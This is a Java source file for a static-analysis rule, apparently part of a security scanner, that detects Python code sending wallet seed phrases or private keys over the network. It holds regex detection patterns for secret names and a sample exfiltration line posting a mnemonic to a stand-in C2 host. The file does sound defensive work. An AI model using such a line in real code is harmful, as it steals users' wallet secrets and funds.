package dev.kingsnake.rules.exfil;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.PythonFileRule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.facts.CallFacts;
import dev.kingsnake.spi.facts.Capability;
import dev.kingsnake.spi.facts.DataFlow;
import dev.kingsnake.spi.python.Expr;
import dev.kingsnake.spi.python.Node;

import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * A wallet's master secret (mnemonic / seed phrase) or a private key put into the body of a request that
 * leaves the machine. Wallet code derives keys and signs locally; sending the secret itself is theft.
 */
public final class WalletSecretSendRule implements PythonFileRule {

    private static final RuleInfo INFO = new RuleInfo("KS-EXFIL-WALLET-SECRET",
            "Sends a wallet mnemonic/seed phrase or a private key over the network (a request body, form or "
                    + "message field named for it, or a variable holding it)",
            Severity.CRITICAL, Confidence.HIGH, Set.of(Tags.CREDENTIALS, Tags.EXFILTRATION),
            "requests.post('https://c2.example.invalid/log', json={'mnemonic': phrase})",
            "Wallet libraries sign locally and send signed transactions or public addresses, never the seed. A few "
                    + "custodial signing APIs accept a private key in the body: private keys are HIGH, mnemonics and "
                    + "seed phrases CRITICAL. JSON-RPC calls (method/params payloads) are not inspected by name.");

    /** Field or variable names that hold the whole wallet: never sent anywhere by honest code. */
    private static final Pattern SEED = Pattern.compile(
            "(?i)^_?(mnemonic(s|_?phrase|_?words)?|seed_?(phrase|words)|secret_?(phrase|recovery_?phrase)|recovery_?phrase"
                    + "|wallet_?(seed|mnemonic))$");
    /** Private keys: some custodial APIs do take them, so weaker. */
    private static final Pattern KEY = Pattern.compile("(?i)^_?(private_?key|priv_?key|privkey|wallet_?private_?key"
            + "|from_?private_?key)s?$");
    private static final Set<String> BODY_KEYWORDS = Set.of("json", "data", "params", "files", "content", "text",
            "body", "message", "caption");

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
        CallFacts facts = CallFacts.of(file);
        if (!facts.fileCaps().contains(Capability.SEND)) {
            return;
        }
        for (CallFacts.CallFact c : facts.calls()) {
            if (!c.is(Capability.SEND)) {
                continue;
            }
            List<Expr> carried = new ArrayList<>();
            for (Expr.Keyword k : c.call().keywords()) {
                if (k.name() != null && BODY_KEYWORDS.contains(k.name())) {
                    carried.add(k.value());
                }
            }
            for (int i = 1; i < c.call().args().size(); i++) {
                carried.add(c.call().args().get(i));
            }
            Optional<String> seed = Optional.empty();
            Optional<String> key = Optional.empty();
            for (Expr e : carried) {
                for (String n : namesIn(facts, e)) {
                    if (SEED.matcher(n).matches()) {
                        seed = Optional.of(n);
                    } else if (KEY.matcher(n).matches()) {
                        key = key.or(() -> Optional.of(n));
                    }
                }
            }
            if (seed.isPresent()) {
                sink.report(file, c.call(), "sends a wallet seed phrase (" + seed.get() + ")");
            } else if (key.isPresent()) {
                sink.report(file, c.call(), "sends a private key (" + key.get() + ")", Severity.HIGH, Confidence.HIGH);
            }
        }
    }

    /**
     * Dict keys and variable names of a request body expression (one level through a named dict), not
     * looking inside calls.
     */
    private static List<String> namesIn(CallFacts facts, Expr body) {
        List<String> out = new ArrayList<>();
        Expr e = body;
        if (e instanceof Expr.Name nm) {
            out.add(nm.id());
            Optional<Expr> v = facts.file() == null ? Optional.empty() : assignedDict(facts, nm.id(), body);
            if (v.isEmpty()) {
                return out;
            }
            e = v.get();
        }
        Deque<Node> stack = new ArrayDeque<>();
        if (e instanceof Expr.Call) {
            return out;
        }
        stack.push(e);
        int budget = 500;
        while (!stack.isEmpty() && budget-- > 0) {
            Node n = stack.pop();
            if (n instanceof Expr.DictItem item && item.key().isPresent()) {
                facts.text(item.key().get()).ifPresent(out::add);
            } else if (n instanceof Expr.Name nm) {
                out.add(nm.id());
            } else if (n instanceof Expr.Keyword kw && kw.name() != null) {
                out.add(kw.name());
            }
            if (n instanceof Expr.Call) {
                continue; // a value passed through a call (signed, hashed, encoded into a JWT) is not the secret
            }
            for (Node k : n.children()) {
                stack.push(k);
            }
        }
        return out;
    }

    /** The dict literal most recently assigned to {@code name} before the request, if any. */
    private static Optional<Expr> assignedDict(CallFacts facts, String name, Expr use) {
        Optional<Expr> found = Optional.empty();
        for (var a : dev.kingsnake.spi.facts.DataFlow.of(facts.file()).assigns()) {
            if (a.line() > use.line() || a.value().isEmpty() || !(a.value().get() instanceof Expr.Dict)) {
                continue;
            }
            for (Expr t : a.targets()) {
                if (t instanceof Expr.Name tn && tn.id().equals(name)) {
                    found = a.value();
                }
            }
        }
        return found;
    }
}
